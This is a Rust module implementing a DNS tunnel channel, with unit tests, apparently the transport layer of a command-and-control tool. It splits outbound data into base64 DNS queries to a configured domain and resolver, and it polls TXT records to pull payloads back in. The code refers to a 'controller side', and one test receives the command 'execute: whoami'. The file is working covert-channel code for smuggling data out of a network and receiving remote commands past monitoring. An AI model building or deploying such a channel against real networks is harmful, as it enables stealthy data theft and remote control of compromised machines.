//! Name-query (DNS tunnel) channel.
//!
//! The address is `domain@resolver`, e.g. `t.example.com@10.0.0.2:53`.
//! Outbound payloads become one query per fragment (see
//! [`crate::codec::dns`]); inbound payloads are fetched by polling
//! `response.<domain>` for TXT records.

use tokio::net::UdpSocket;

use crate::codec::dns::{self, DnsWireError};
use crate::core::{parse_name_query, LinkError, LinkResult, TransportConfig};

/// DNS tunnel channel over UDP.
#[derive(Debug, Default)]
pub struct QueryChannel {
    socket: Option<UdpSocket>,
    domain: String,
}

impl QueryChannel {
    pub(super) fn is_open(&self) -> bool {
        self.socket.is_some()
    }

    pub(super) async fn open(&mut self, config: &TransportConfig) -> LinkResult<()> {
        let (domain, resolver) = parse_name_query(&config.address)?;

        let socket = UdpSocket::bind("0.0.0.0:0")
            .await
            .map_err(|e| LinkError::connect_io(e, config.connect_timeout))?;
        socket
            .connect(resolver)
            .await
            .map_err(|e| LinkError::connect_io(e, config.connect_timeout))?;

        self.socket = Some(socket);
        self.domain = domain;
        Ok(())
    }

    pub(super) fn close(&mut self) {
        self.socket = None;
    }

    /// Send one payload as `ceil(base64_len / max_data_size)` queries,
    /// waiting for the resolver's answer to each before sending the
    /// next. An empty payload sends nothing.
    pub(super) async fn send(&mut self, data: &[u8], config: &TransportConfig) -> LinkResult<usize> {
        let socket = self
            .socket
            .as_ref()
            .ok_or_else(|| LinkError::Send("query socket not open".into()))?;

        let chunks = dns::encode_chunks(data, config.max_data_size)
            .map_err(|e| LinkError::Configuration(e.to_string()))?;

        let mut buf = vec![0u8; config.buffer_size];
        for chunk in &chunks {
            let id = rand::random::<u16>();
            let packet = dns::encode_chunk_query(id, chunk, &self.domain, config.query_kind)
                .map_err(|e| LinkError::Send(e.to_string()))?;

            socket
                .send(&packet)
                .await
                .map_err(|e| LinkError::send_io(e, config.write_timeout))?;

            // Each fragment must be acknowledged before the next goes
            // out; a lost fragment would corrupt the reassembled
            // payload on the controller side.
            let n = socket
                .recv(&mut buf)
                .await
                .map_err(|e| LinkError::send_io(e, config.write_timeout))?;
            dns::parse_response(&buf[..n], id)
                .map_err(|e| LinkError::Send(format!("fragment {} rejected: {e}", chunk.label())))?;
        }

        Ok(data.len())
    }

    /// Poll `response.<domain>` and reassemble the TXT strings of the
    /// answer, in response order, into one payload.
    pub(super) async fn receive(&mut self, config: &TransportConfig) -> LinkResult<Vec<u8>> {
        let socket = self
            .socket
            .as_ref()
            .ok_or_else(|| LinkError::Receive("query socket not open".into()))?;

        let id = rand::random::<u16>();
        let packet =
            dns::encode_poll_query(id, &self.domain).map_err(|e| LinkError::Receive(e.to_string()))?;

        socket
            .send(&packet)
            .await
            .map_err(|e| LinkError::receive_io(e, config.read_timeout))?;

        let mut buf = vec![0u8; config.buffer_size];
        let n = socket
            .recv(&mut buf)
            .await
            .map_err(|e| LinkError::receive_io(e, config.read_timeout))?;

        let response = dns::parse_response(&buf[..n], id).map_err(receive_wire_error)?;
        dns::reassemble(&response.txt_strings).map_err(receive_wire_error)
    }

    pub(super) fn validate(config: &TransportConfig) -> LinkResult<()> {
        parse_name_query(&config.address)?;
        if config.max_data_size == 0 {
            return Err(LinkError::Configuration("max_data_size must be non-zero".into()));
        }
        Ok(())
    }
}

/// Decode and framing failures on the receive path surface as
/// distinguishable `Receive` errors, never as silent corruption.
fn receive_wire_error(err: DnsWireError) -> LinkError {
    LinkError::Receive(err.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::STANDARD as BASE64;
    use base64::Engine;

    fn encode_name(name: &str) -> Vec<u8> {
        let mut out = Vec::new();
        for label in name.split('.') {
            out.push(label.len() as u8);
            out.extend_from_slice(label.as_bytes());
        }
        out.push(0);
        out
    }

    /// Minimal NOERROR response with no sections, enough to ack a query.
    fn ack_response(id: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(id);
        out.extend_from_slice(&0x8180u16.to_be_bytes());
        out.extend_from_slice(&[0u8; 8]);
        out
    }

    /// TXT response carrying `strings` for `response.<domain>`.
    fn txt_response(id: &[u8], domain: &str, strings: &[String]) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(id);
        out.extend_from_slice(&0x8180u16.to_be_bytes());
        out.extend_from_slice(&0u16.to_be_bytes()); // qdcount
        out.extend_from_slice(&1u16.to_be_bytes()); // ancount
        out.extend_from_slice(&[0u8; 4]);

        out.extend_from_slice(&encode_name(&format!("response.{domain}")));
        out.extend_from_slice(&16u16.to_be_bytes());
        out.extend_from_slice(&1u16.to_be_bytes());
        out.extend_from_slice(&0u32.to_be_bytes());
        let mut rdata = Vec::new();
        for s in strings {
            rdata.push(s.len() as u8);
            rdata.extend_from_slice(s.as_bytes());
        }
        out.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
        out.extend_from_slice(&rdata);
        out
    }

    #[tokio::test]
    async fn test_send_issues_one_query_per_chunk() {
        let resolver = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let addr = resolver.local_addr().unwrap();

        // 600 raw bytes -> 800 base64 chars -> 4 queries at 250.
        let server = tokio::spawn(async move {
            let mut buf = [0u8; 2048];
            let mut queries = 0u32;
            for _ in 0..4 {
                let (n, peer) = resolver.recv_from(&mut buf).await.unwrap();
                assert!(n > 12);
                queries += 1;
                resolver.send_to(&ack_response(&buf[..2]), peer).await.unwrap();
            }
            queries
        });

        let config = TransportConfig::new(format!("t.example.com@{addr}"));
        let mut channel = QueryChannel::default();
        channel.open(&config).await.unwrap();

        let payload = vec![0x5Au8; 600];
        assert_eq!(channel.send(&payload, &config).await.unwrap(), 600);
        assert_eq!(server.await.unwrap(), 4);
    }

    #[tokio::test]
    async fn test_send_empty_payload_sends_nothing() {
        let config = TransportConfig::new("t.example.com@127.0.0.1:53");
        let mut channel = QueryChannel::default();
        channel.open(&config).await.unwrap();
        assert_eq!(channel.send(b"", &config).await.unwrap(), 0);
    }

    #[tokio::test]
    async fn test_receive_reassembles_txt_fragments() {
        let resolver = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let addr = resolver.local_addr().unwrap();

        let encoded = BASE64.encode(b"execute: whoami");
        let fragments: Vec<String> =
            encoded.as_bytes().chunks(6).map(|c| String::from_utf8_lossy(c).into_owned()).collect();
        tokio::spawn(async move {
            let mut buf = [0u8; 512];
            let (_, peer) = resolver.recv_from(&mut buf).await.unwrap();
            let response = txt_response(&buf[..2], "t.example.com", &fragments);
            resolver.send_to(&response, peer).await.unwrap();
        });

        let config = TransportConfig::new(format!("t.example.com@{addr}"));
        let mut channel = QueryChannel::default();
        channel.open(&config).await.unwrap();

        assert_eq!(channel.receive(&config).await.unwrap(), b"execute: whoami");
    }

    #[tokio::test]
    async fn test_receive_empty_txt_is_error() {
        let resolver = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let addr = resolver.local_addr().unwrap();
        tokio::spawn(async move {
            let mut buf = [0u8; 512];
            let (_, peer) = resolver.recv_from(&mut buf).await.unwrap();
            resolver.send_to(&ack_response(&buf[..2]), peer).await.unwrap();
        });

        let config = TransportConfig::new(format!("t.example.com@{addr}"));
        let mut channel = QueryChannel::default();
        channel.open(&config).await.unwrap();

        assert!(matches!(
            channel.receive(&config).await,
            Err(LinkError::Receive(_))
        ));
    }

    #[test]
    fn test_validate_requires_domain_and_resolver() {
        assert!(QueryChannel::validate(&TransportConfig::new("t.example.com@10.0.0.2")).is_ok());
        assert!(QueryChannel::validate(&TransportConfig::new("t.example.com")).is_err());
        assert!(QueryChannel::validate(&TransportConfig::new("@10.0.0.2")).is_err());

        let mut config = TransportConfig::new("t.example.com@10.0.0.2");
        config.max_data_size = 0;
        assert!(matches!(
            QueryChannel::validate(&config),
            Err(LinkError::Configuration(_))
        ));
    }
}
